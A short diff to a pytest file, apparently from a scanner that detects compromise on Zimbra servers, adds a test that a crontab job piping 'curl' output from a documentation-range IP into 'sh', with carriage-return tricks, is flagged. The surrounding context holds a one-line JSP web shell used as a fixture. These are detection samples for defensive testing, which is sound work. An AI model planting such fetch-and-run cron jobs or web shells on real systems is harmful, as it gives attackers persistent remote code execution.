@@ -323,6 +323,13 @@ def test_links_and_pipes_are_not_opened(root: Path) -> None:
     assert rules(root) == {page: {"alarm link-out-of-the-web"}}
 
 
+@pytest.mark.parametrize("end", ["| sh", "-A \r| sh", "-A x\r| sh", "\\\r\n| sh"])
+def test_no_carriage_return_cuts_a_job_in_two(end: str) -> None:
+    line = f"* * * * * curl http://203.0.113.66/u {end}\n".encode()
+    path = "/var/spool/cron/crontabs/zimbra"
+    assert "job-fetches-code" in found(Subject(path, 0o600, "zimbra", line))
+
+
 def test_what_was_found_is_kept(root: Path, tmp_path: Path) -> None:
     text = '<% Runtime.getRuntime().exec("id"); %>'
     shell = put(root, f"{WEB}/zimbra/public/x\n.jsp", text)
